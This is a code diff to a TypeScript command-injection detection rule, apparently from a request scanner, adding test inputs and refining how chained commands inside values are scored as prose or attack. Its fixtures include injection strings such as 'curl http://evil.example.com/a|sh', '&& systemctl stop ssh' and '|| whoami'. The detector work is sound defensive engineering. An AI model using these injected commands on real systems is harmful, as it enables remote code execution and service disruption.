@@ -17,7 +17,7 @@ import {
 } from '../../placement/command-place.ts';
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
-import { endsInValue, isAtValue } from '../../placement/value-place.ts';
+import { endsInValue, isAtValue, isInValue } from '../../placement/value-place.ts';
 import { followsValue, wordsBefore } from '../../text/place.ts';
 import type { Match, ValueRule } from '../rule.ts';
 
@@ -70,6 +70,8 @@ export const chainedCommand: ValueRule = {
     'It came in a box that was too large && ls -la /home',
     'It came too late, on 4/5 (again);curl http://evil.example.com/a|sh',
     { body: { 'query.host': 'it came too late; ls -la /home' } },
+    { body: { host: `${'It came too late, and so on. '.repeat(40)}; ls -la /home` } },
+    { body: { 'query.zone': 'it came too late && systemctl stop ssh' } },
     { body: { email: 'it came too late || whoami' } },
     { body: { host: '10.0.0.1 || hostname ; it came too late' } },
     ...['example.com&set', 'localhost; date', 'x; killall ab #'],
@@ -140,6 +142,7 @@ export const chainedCommand: ValueRule = {
     'The network is down; ping -c 3 192.0.2.1',
     { body: { 'query.label': 'The network is down; ping -c 3 192.0.2.1' } },
     { body: { 'query.category': 'name of the shop; id' } },
+    { body: { image: 'The dog, the cat & the mouse; find more of them' } },
     { body: { 'query.fields': 'sku; id; name of the shop' } },
     { body: { 'query.columns': 'id|hostname|uptime|status' } },
     { body: { 'query.name': 'Tom && Jerry; the cat & the mouse' } },
@@ -193,7 +196,7 @@ function scoreOf(subject: Subject, command: Command): number {
   const isValue = isPlaced(subject, command);
   switch (command.fit) {
     case fit.full:
-      return fullScore(text, command, isValue);
+      return fullScore(subject, command, isValue);
     case fit.sureAlone:
       return sureScore(subject, command, isValue);
     case fit.alone:
@@ -238,20 +241,25 @@ function isPlausible(text: string, command: Command): boolean {
   return (command.uses & use.text) !== 0 || plainTakers.has(command.name);
 }
 
-function fullScore(text: string, command: Command, isValue: boolean): number {
+function fullScore(subject: Subject, command: Command, isValue: boolean): number {
+  const { text } = subject;
   if (isValue) {
     if (isSaid(text, command)) return confidence.trace;
     if (command.hidden || command.hidesArgument || command.structured) return confidence.certain;
     if (isBuildStep(command) || isNamed(text, command)) return confidence.hint;
-    const mayBeProse = (command.uses & (use.english | use.subcommand)) !== 0 && !command.isSure;
-    if (mayBeProse)
-      return wordsBefore(text, command.chain) > 1 ? confidence.hint : confidence.strong;
+    if (mayBeProse(subject, command)) return confidence.hint;
     return command.isSure ? confidence.certain : confidence.strong;
   }
   if (command.hidden) return confidence.certain;
   if (namesSecret(text, command.head.start, command.end)) return confidence.strong;
   if (command.isSure && endsSentence(text, command.head, command.end)) return confidence.likely;
   return (command.uses & use.english) !== 0 ? confidence.trace : confidence.hint;
+}
+
+/** Words stand in front, and the command is one of them in English or takes them. */
+function mayBeProse(subject: Subject, { chain, isSure, uses }: Command): boolean {
+  if (isSure || (uses & (use.english | use.subcommand)) === 0) return false;
+  return wordsBefore(subject.text, chain) > 1 && !isInValue(subject, chain);
 }
 
 /** ``Copy & paste the `b` into it``: words of a sentence; code in its marks is judged by itself. */
